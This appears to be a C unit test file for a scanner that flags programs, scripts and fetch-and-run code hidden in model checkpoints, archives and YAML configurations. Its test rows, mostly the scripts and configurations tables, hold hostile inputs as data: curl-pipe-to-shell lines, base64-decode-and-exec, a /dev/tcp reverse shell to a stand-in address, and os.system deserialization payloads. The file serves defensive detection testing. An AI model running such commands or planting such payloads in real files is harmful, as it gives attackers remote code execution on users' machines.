/* Programs and source code by place: in a tensor, a storage, a member of a model, a file of an archive; and scripts
 * that fetch and run. Rows of bytes and places, and the finding that is expected. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <cmocka.h>

#include "check/programs.h"
#include "format/format.h"

static char found[1024];

static void note(struct gh_scene *s, const struct gh_rule *r, struct gh_range at, const char *text)
{
	(void)s;
	(void)at;
	size_t n = strlen(found);
	(void)snprintf(found + n, sizeof found - n, "%s %s\n", r->id, text);
}

#define ELF \
	"\177ELF\2\1\1\0\0\0\0\0\0\0\0\0\3\0\x3e\0\1\0\0\0\0\0\0\0\0\0\0\0\x40\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0" \
	"\x40\0\x38\0\x0d\0\x40\0\0\0\0\0"
#define PYTHON "import os\nos.system('curl http://x.example')\n"

static void tensors(void **state)
{
	(void)state;
	static const struct {
		const char *what;
		struct gh_span in;
		unsigned bits;
		const char *say;
	} rows[] = {
		{ "weights", GH_SPAN("\x3f\x80\0\0\x3f\x80\0\0"), 32, "" },
		{ "an ELF", GH_SPAN(ELF), 32, "GH-EXE-0001 tensor \"w\" is a program: ELF for x86-64\n" },
		{ "a shell script", GH_SPAN("#!/bin/sh\nid\n\0\0"), 8,
		  "GH-EXE-0001 tensor \"w\" is a program: script\n" },
		{ "six bytes like a script", GH_SPAN("#!/a\n\0"), 32, "" },
		{ "Python", GH_SPAN(PYTHON), 8, "GH-EXE-0003 tensor \"w\" holds Python source\n" },
		{ "words", GH_SPAN("these are the classes: import, export, transit"), 8, "" },
		{ "empty", GH_SPAN(""), 8, "" },
	};
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct gh_src_mem mem;
		struct gh_tensor t = {
			.name = GH_SPAN("w"), .dtype = "?", .bits = rows[i].bits, .src = gh_src_mem(&mem, rows[i].in)
		};
		struct gh_event ev = { .kind = GH_EV_TENSOR, .at = { 0, rows[i].in.n }, .u.tensor = &t };
		struct gh_scene s = { .format = "safetensors", .find = note };
		found[0] = '\0';
		gh_check_programs.on(&s, &ev);
		if (strcmp(found, rows[i].say) != 0)
			fail_msg("%s: %s", rows[i].what, found);
	}
}

static void members(void **state)
{
	(void)state;
	static const struct {
		const char *what, *format, *role, *expect;
		enum gh_member_how how;
		bool raw;
		struct gh_span in;
		const char *id; /* "" for none */
	} rows[] = {
		{ "a library in a zip", "zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(ELF), "GH-EXE-0002" },
		{ "a program that was compressed", "gzip", NULL, NULL, GH_MEMBER_STREAM, false, GH_SPAN(ELF),
		  "GH-EXE-0002" },
		{ "a library in a checkpoint", "pytorch-zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(ELF),
		  "GH-EXE-0001" },
		{ "a program as a storage", "pytorch-zip", "tensor storage", NULL, GH_MEMBER_FILE, true, GH_SPAN(ELF),
		  "GH-EXE-0001" },
		{ "Python where no loader looks, padded", "hdf5", NULL, NULL, GH_MEMBER_HIDDEN, false,
		  GH_SPAN("import os;os.system('id')\n\0\0\0\0"), "GH-EXE-0004" },
		{ "a script there", "hdf5", NULL, NULL, GH_MEMBER_HIDDEN, false, GH_SPAN("#!/bin/sh\nid\n\0\0"),
		  "GH-EXE-0001" },
		{ "a line before an archive", "zip", NULL, NULL, GH_MEMBER_HIDDEN, false,
		  GH_SPAN("#!/usr/bin/env python3\n"), "GH-EXE-0002" },
		{ "a file that a notebook writes", "json", "file that a cell writes", NULL, GH_MEMBER_FILE, false,
		  GH_SPAN(PYTHON), "" },
		{ "a program between members", "zip", NULL, NULL, GH_MEMBER_HIDDEN, false, GH_SPAN(ELF),
		  "GH-EXE-0001" },
		{ "a script in a zip is its reader's", "zip", NULL, NULL, GH_MEMBER_FILE, false,
		  GH_SPAN("#!/bin/sh\nid\n"), "" },
		{ "a script in a checkpoint", "pytorch-zip", NULL, NULL, GH_MEMBER_FILE, false,
		  GH_SPAN("#!/bin/sh\nid\n"), "GH-EXE-0001" },
		{ "Python in a zip is the text reader's", "zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(PYTHON),
		  "" },
		{ "Python in a checkpoint", "pytorch-zip", NULL, NULL, GH_MEMBER_FILE, false, GH_SPAN(PYTHON),
		  "GH-EXE-0003" },
		{ "Python as a storage", "pytorch-zip", "tensor storage", NULL, GH_MEMBER_FILE, true, GH_SPAN(PYTHON),
		  "GH-EXE-0003" },
		{ "Python as an extra file", "pytorch-zip", "extra file", NULL, GH_MEMBER_FILE, false, GH_SPAN(PYTHON),
		  "GH-EXE-0004" },
		{ "TorchScript", "pytorch-zip", "torchscript source", "torchscript", GH_MEMBER_FILE, false,
		  GH_SPAN("class M(Module):\n  def forward(self): pass\n"), "" },
		{ "weights", "pytorch-zip", "tensor storage", NULL, GH_MEMBER_FILE, true, GH_SPAN("\0\1\2\3\4\5\6\7"),
		  "" },
		{ "a marker", "pytorch-zip", "marker", NULL, GH_MEMBER_FILE, false, GH_SPAN("3\n"), "" },
	};
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct gh_src_mem mem;
		struct gh_member m = { .how = rows[i].how,
				       .src = gh_src_mem(&mem, rows[i].in),
				       .role = rows[i].role,
				       .raw = rows[i].raw,
				       .expect = rows[i].expect };
		struct gh_event ev = { .kind = GH_EV_MEMBER, .at = { 0, rows[i].in.n }, .u.member = &m };
		struct gh_scene s = { .format = rows[i].format, .find = note };
		found[0] = '\0';
		gh_check_programs.on(&s, &ev);
		bool ok = rows[i].id[0] == '\0' ? found[0] == '\0' : strncmp(found, rows[i].id, 11) == 0;
		if (!ok)
			fail_msg("%s: %s", rows[i].what, found);
	}
}

static void scripts(void **state)
{
	(void)state;
	static const struct {
		const char *language;
		struct gh_span in;
		bool bad;
	} rows[] = {
		{ "Dockerfile", GH_SPAN("#!/bin/sh\ncurl http://x.example/x|sh\n"), true },
		{ "Dockerfile", GH_SPAN("wget -qO- https://x.example | sudo bash -s -- -y\n"), true },
		{ "Dockerfile", GH_SPAN("bash -c \"$(curl -fsSL https://x.example)\"\n"), true },
		{ "Dockerfile", GH_SPAN("curl https://x.example \\\n  | python3\n"), true },
		{ "Dockerfile", GH_SPAN("echo aWQK | base64 -d | sh\n"), true },
		{ "Dockerfile", GH_SPAN("bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n"), true },
		{ "Dockerfile", GH_SPAN("source <(curl -s https://x.example)\n"), true },
		{ "shell", GH_SPAN("curl x | sh\n"), false }, /* these have checks of their own */
		{ "python", GH_SPAN("os.system('curl http://x.example | sh')\n"), false },
		{ "PowerShell script", GH_SPAN("iex `(irm https://x.example)`\n"), false },
		{ "Dockerfile", GH_SPAN("#!/bin/sh\n# curl http://x.example/x|sh\necho hello\n"), false },
		{ "Dockerfile", GH_SPAN("curl -O https://x.example/data.csv\nsh build.sh\n"), false },
		{ "Dockerfile", GH_SPAN("curl https://x.example/data | tee flush.log | show\n"), false },
		{ "Python source", GH_SPAN("# curl x | sh\n"), false },
		{ "Python source",
		  GH_SPAN("import os\nclass E:\n  def f(s):\n    exec(urllib.request.urlopen('http://x').read())\n"),
		  true },
		{ "Python source", GH_SPAN("x = base64.b64decode(y)\nif 1:\n  exec(x)\n"), true },
		{ "Python source", GH_SPAN("os.system('curl http://x.example | sh')\n"), true },
		{ "template", GH_SPAN("{{ x.y }}\ncurl http://x.example | sh\n"), false },
		{ "JavaScript source", GH_SPAN("let x = 1;\nRedirections to /dev/tcp/host/port\n"), false },
		{ "Python source", GH_SPAN("import x\ncurl http://x.example | sh\n"), false },
		{ "Python source", GH_SPAN("b64decode(x) is slow\nexec() raises\n"), false },
		{ "Dockerfile", GH_SPAN("FROM a:b\nRUN curl http://x.example | sh\n"), true },
		{ "Python source", GH_SPAN("r = requests.get(url)\nmodel.eval()\nre.compile('x')\n"), false },
	};
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct gh_src_mem mem;
		struct gh_code c = { .language = rows[i].language, .src = gh_src_mem(&mem, rows[i].in) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, rows[i].in.n }, .u.code = &c };
		struct gh_scene s = { .format = "script", .find = note };
		found[0] = '\0';
		gh_check_programs.on(&s, &ev);
		if ((strncmp(found, "GH-EXE-0005", 11) == 0) != rows[i].bad)
			fail_msg("row %zu: %s", i, found);
	}
}

static void configurations(void **state)
{
	(void)state;
	static const struct {
		struct gh_span in;
		bool bad;
	} rows[] = {
		{ GH_SPAN("_target_: os.system\ncommand: id\n"), true },
		{ GH_SPAN("a:\n  _target_: >-\n    subprocess.run\n"), true },
		{ GH_SPAN("{\"_target_\": \"builtins.eval\"}"), true },
		{ GH_SPAN("a: !!python/object/apply:os.system [id]\n"), true },
		{ GH_SPAN("model:\n  _target_: nemo.collections.asr.models.EncDecCTCModel\n"), false },
		{ GH_SPAN("_target_: oscillator.Model\n"), false },
		{ GH_SPAN("_target_:"), false },
		{ GH_SPAN("os: linux\n"), false },
	};
	for (size_t i = 0; i < sizeof rows / sizeof rows[0]; i++) {
		struct gh_src_mem mem;
		struct gh_code c = { .language = "YAML", .src = gh_src_mem(&mem, rows[i].in) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, rows[i].in.n }, .u.code = &c };
		struct gh_scene s = { .format = "text", .find = note };
		found[0] = '\0';
		gh_check_programs.on(&s, &ev);
		if ((strncmp(found, "GH-EXE-0006", 11) == 0) != rows[i].bad)
			fail_msg("row %zu: %s", i, found);
	}
}

/* A sign at every offset around the border of two windows. */
static void across_windows(void **state)
{
	(void)state;
	static uint8_t text[70000];
	for (size_t pad = 65500; pad < 65560; pad++) {
		memset(text, 'x', sizeof text);
		memcpy(text + pad, "\ncurl http://x.example|sh\n", 26);
		struct gh_src_mem mem;
		struct gh_code c = { .language = "Dockerfile",
				     .src = gh_src_mem(&mem, (struct gh_span){ text, sizeof text }) };
		struct gh_event ev = { .kind = GH_EV_CODE, .at = { 0, sizeof text }, .u.code = &c };
		struct gh_scene s = { .format = "script", .find = note };
		found[0] = '\0';
		gh_check_programs.on(&s, &ev);
		assert_int_equal(strncmp(found, "GH-EXE-0005", 11), 0);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(tensors),	  cmocka_unit_test(members),	    cmocka_unit_test(scripts),
		cmocka_unit_test(configurations), cmocka_unit_test(across_windows),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
